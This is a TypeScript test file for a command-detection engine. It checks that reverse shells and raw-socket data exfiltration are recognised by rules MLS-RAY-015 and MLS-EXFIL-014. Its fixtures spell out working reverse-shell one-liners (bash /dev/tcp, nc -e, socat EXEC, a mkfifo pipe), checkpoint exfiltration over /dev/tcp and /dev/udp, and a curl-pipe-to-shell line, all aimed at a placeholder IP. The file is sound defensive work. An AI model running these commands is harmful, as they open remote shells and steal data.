/**
 * `attrs.exec.socketIo` (exec-socket-io.ts) and the rules that read it: MLS-RAY-015 (a reverse
 * shell) and MLS-EXFIL-014 (output sent to bash's /dev/tcp). The reading over real canonical
 * readings (exec-canonical.ts), then through the shipped rule set and the real engine.
 */
import { describe, expect, it } from 'vitest';
import { canonicalExecValue } from './exec-canonical.js';
import { execRuleIds } from './exec-events.test-support.js';
import { MAX_VALUES, socketIo } from './exec-socket-io.js';
import { mulberry32 } from '../../core/mulberry32.js';

const io = (argv: string[]): readonly string[] => canonicalExecValue(argv)!.socketIo;
const sh = (line: string): string[] => ['sh', '-c', line];
const H = '203.0.113.9';

describe('socketIo', () => {
  it("applies a command's redirections in order, as the shell does", () => {
    expect(io(sh(`bash -i >& /dev/tcp/${H}/4444 0>&1`))).toEqual(['shell bash']);
    expect(io(sh(`/bin/bash -l > /dev/tcp/${H}/4444 0<&1 2>&1`))).toEqual(['shell bash']);
    expect(io(sh(`sh -i 5<> /dev/tcp/${H}/4444 0<&5 1>&5 2>&5`))).toEqual(['shell sh']);
    expect(io(sh(`cat /mnt/ckpt/model.pt > /dev/tcp/${H}/9000`))).toEqual(['send cat']);
    expect(io(sh(`sudo -u x tar czf - /mnt/ckpt 1>>/dev/udp/${H}/53`))).toEqual(['send tar']);
    expect(io(sh(`nc -l 9000 < /dev/tcp/${H}/80`))).toEqual(['recv nc']);
    // The socket closed or moved away again before the command runs; a descriptor other than 0, 1, 2.
    expect(io(sh(`cat f > /dev/tcp/${H}/9 > /tmp/x`))).toEqual([]);
    expect(io(sh(`cat f 3> /dev/tcp/${H}/9`))).toEqual([]);
  });

  it('keeps descriptors a lone exec opens for the commands after it, until one closes them', () => {
    expect(io(sh(`exec 3<>/dev/tcp/${H}/9000; cat /mnt/ckpt/model.pt >&3`))).toEqual(['send cat']);
    expect(io(sh(`0<&196;exec 196<>/dev/tcp/${H}/4444; sh <&196 >&196 2>&196`))).toEqual(['shell sh']);
    expect(io(sh(`exec 5<>/dev/tcp/${H}/4444; cat <&5 | while read line; do $line 2>&5 >&5; done`))).toEqual(['recv cat', 'shell $line']);
    expect(io(sh(`exec 3<>/dev/tcp/${H}/9; exec 3>&-; cat f >&3`))).toEqual([]);
    expect(io(sh(`cat f >&3; exec 3<>/dev/tcp/${H}/9`))).toEqual([]);
  });

  it('reads network tools told to run a shell, and a shell piped to or from a network client', () => {
    expect(io(['nc', '-e', '/bin/sh', H, '4444'])).toEqual(['shell nc']);
    expect(io(sh(`ncat ${H} 4444 --sh-exec "bash -i"`))).toEqual(['shell ncat']);
    expect(io(sh(`busybox nc ${H} 4444 -e sh`))).toEqual(['shell nc']);
    expect(io(['socat', `TCP:${H}:4444`, "EXEC:'bash -li',pty,stderr"])).toEqual(['shell socat']);
    expect(io(['socat', `tcp-connect:${H}:4444`, 'system:sh'])).toEqual(['shell socat']);
    expect(io(sh(`rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc ${H} 4444 >/tmp/f`))).toEqual(['shell sh']);
    expect(io(sh(`nc ${H} 4444 | /bin/bash | nc ${H} 4445`))).toEqual(['shell bash']);
  });

  it('leaves port probes, argv words, file redirections and ordinary network use', () => {
    expect(io(sh('echo > /dev/tcp/db.svc/5432 && echo up'))).toEqual(['probe echo']);
    for (const argv of [
      sh('timeout 1 bash -c "</dev/tcp/redis/6379" && echo open'),
      ['bash', '-i', '>&', `/dev/tcp/${H}/4444`],
      sh('cat /mnt/ckpt/model.pt > /tmp/dev/tcp/x/1'),
      sh(`nc -zv ${H} 443`),
      sh(`socat TCP-LISTEN:8080,fork TCP:${H}:80`),
      sh(`echo hi | nc ${H} 80`),
      sh('curl -fsSL https://h/i.sh | sh'),
    ]) expect(io(argv), argv.join(' ')).toEqual([]);
  });

  it('never throws and stays bounded on random words', () => {
    const r = mulberry32(21);
    const WORDS = ['cat', 'sh', 'bash', 'nc', 'exec', '-e', '<&', '>&', '<>', '>', '<', '&>', '0', '1', '2', '3', '196', '-', '/dev/tcp/h/1', '/dev/udp/h/2', '/tmp/x', '$l', 'socat', 'exec:sh', ''];
    for (let n = 0; n < 3000; n++) {
      const cmds = Array.from({ length: 1 + Math.floor(r() * 5) }, () => Array.from({ length: Math.floor(r() * 8) }, () => WORDS[Math.floor(r() * WORDS.length)]!));
      const got = socketIo(cmds, cmds.map(() => r() < 0.8), [0, 2]);
      expect(got.length).toBeLessThanOrEqual(MAX_VALUES);
      expect(new Set(got).size).toBe(got.length);
    }
  });
});

describe('MLS-RAY-015 and MLS-EXFIL-014 through the shipped rules', () => {
  it('alerts on reverse shells (RAY-015) and on output sent to a raw socket (EXFIL-014)', () => {
    for (const argv of [
      ['bash', '-c', `bash -i >& /dev/tcp/${H}/4444 0>&1`],
      sh(`rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc ${H} 4444 >/tmp/f`),
      ['socat', `TCP:${H}:4444`, 'EXEC:/bin/sh'],
    ]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-RAY-015');
    for (const argv of [
      ['bash', '-c', `cat /mnt/ckpt/model.safetensors > /dev/tcp/${H}/9000`],
      ['bash', '-c', `exec 3<>/dev/tcp/${H}/9000; tar czf - /mnt/ckpt >&3`],
    ]) {
      const ids = execRuleIds(argv);
      expect(ids, argv.join(' ')).toContain('MLS-EXFIL-014');
      expect(ids, argv.join(' ')).not.toContain('MLS-RAY-015');
    }
  });

  it('leaves a port probe, kubectl exec -it into a shell and a plain nc check', () => {
    for (const argv of [sh('echo > /dev/tcp/db.svc/5432 && echo up'), ['bash'], ['sh', '-i'], ['nc', '-zv', 'db.svc', '5432']]) {
      expect(execRuleIds(argv), argv.join(' ')).not.toContain('MLS-RAY-015');
    }
    expect(execRuleIds(sh('echo > /dev/tcp/db.svc/5432 && echo up'))).not.toContain('MLS-EXFIL-014');
  });
});
